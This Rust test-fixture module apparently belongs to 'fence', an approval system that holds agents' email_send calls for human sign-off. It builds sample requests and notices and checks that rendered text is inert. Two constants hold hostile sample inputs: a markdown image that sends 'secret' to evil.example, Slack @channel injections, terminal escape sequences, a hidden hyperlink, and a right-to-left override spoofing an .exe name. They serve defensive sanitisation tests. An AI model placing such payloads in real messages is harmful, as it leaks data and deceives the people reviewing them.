//! A request, and notices of it.

use fence::approvals::{NeedView, OutcomeView, RequestView, RuleView};
use fence::clock::{Clock as _, SystemClock};
use fence::engine::json::Json;
use fence::notify::{Notice, What};
use fence::people::Person;

/// What the corpus lines SRV-011 and APR-033 hold in a mail's body.
pub(super) const MARKUP: &str =
    "![x](https://evil.example/?q=secret) <!channel> <https://evil.example|ok> @channel <@U1>";
pub(super) const ESCAPES: &str = "\u{1b}[2K\u{1b}[1A safe \u{1b}]8;;https://evil.example\u{7}click\
    \u{1b}]8;;\u{7} \u{202e}gnp.exe\u{200b}";

/// A pending request with these arguments.
pub(super) fn request(args: &str) -> RequestView {
    RequestView {
        id: "r_0198c0de-0000-7000-8000-000000000001".to_owned(),
        version: 1,
        state: "pending",
        decision: "0198c0de-0000-7000-8000-000000000002".to_owned(),
        digest: format!("sha256:{}", "ab".repeat(32)),
        policy_digest: format!("sha256:{}", "cd".repeat(32)),
        tool: "email_send".to_owned(),
        args: Json::parse(args.as_bytes()).unwrap(),
        agent: Some("content-1".to_owned()),
        parents: vec!["lead".to_owned()],
        user: Some("eve@example.com".to_owned()),
        session: Some("s-17".to_owned()),
        context: None,
        recipients: Some(1),
        rules: vec![RuleView {
            policy: "content".to_owned(),
            rule: "outbound".to_owned(),
            line: 24,
            because: Some("mail leaves the house".to_owned()),
            instead: None,
            source: Some("ask email_send as outbound".to_owned()),
        }],
        because: Some("mail leaves the house".to_owned()),
        instead: None,
        nearest: None,
        opened_at: "2026-03-23T10:00:00Z".to_owned(),
        expires_at: "2026-03-23T11:00:00Z".to_owned(),
        use_by: None,
        ended_at: None,
        needs: vec![NeedView {
            policy: "content".to_owned(),
            rule: "outbound".to_owned(),
            count: 1,
            of: Some("editors".to_owned()),
            members: vec!["ana@example.com".to_owned(), "bob@example.com".to_owned()],
            given: vec![],
            missing: 1,
            escalation_at: None,
        }],
        votes: vec![],
        outcome: None,
        may_edit: vec![],
        edit: None,
        preview: None,
        preview_required: false,
        offers: vec![],
        claim: None,
        history: vec![],
    }
}

/// The same, refused by Bob with this comment.
pub(super) fn refused(comment: &str) -> RequestView {
    RequestView {
        state: "denied",
        outcome: Some(OutcomeView {
            state: "denied",
            by: Some("bob@example.com".to_owned()),
            reason: Some(comment.to_owned()),
            at: "2026-03-23T10:05:00Z".to_owned(),
        }),
        ended_at: Some("2026-03-23T10:05:00Z".to_owned()),
        ..request(r#"{"to":["a@x.example"]}"#)
    }
}

/// A request that sends this body.
pub(super) fn mailing(body: &str) -> RequestView {
    let mut args = fence::engine::json::Builder::new();
    args.begin_object();
    args.key("to");
    args.begin_list();
    args.text("a@x.example");
    args.end_list();
    args.key("body");
    args.text(body);
    args.end_object();
    RequestView { args: args.finish().unwrap(), ..request("{}") }
}

/// A notice to Ana, who can be reached everywhere.
pub(super) fn notice(what: What, request: RequestView) -> Notice {
    Notice {
        delivery: "d_0198c0de-0000-7000-8000-00000000000d".to_owned(),
        what,
        at: SystemClock.now(),
        link: Some(format!("https://fence.example.com/requests/{}", request.id)),
        asked: vec![ana()],
        request,
    }
}

pub(super) fn ana() -> Person {
    let (slack, email) = (Some("U0ANA".to_owned()), Some("ana@example.com".to_owned()));
    Person { slack, email, ..Person::new("ana@example.com") }
}

/// Fails where a text holds a character that a terminal or a reader would obey instead of show.
pub(super) fn inert(text: &str) {
    for character in text.chars().filter(|character| *character != '\n') {
        let hidden = character.is_control() || fence::engine::show::is_invisible(character);
        assert!(!hidden, "{character:?} in {text:?}");
    }
}
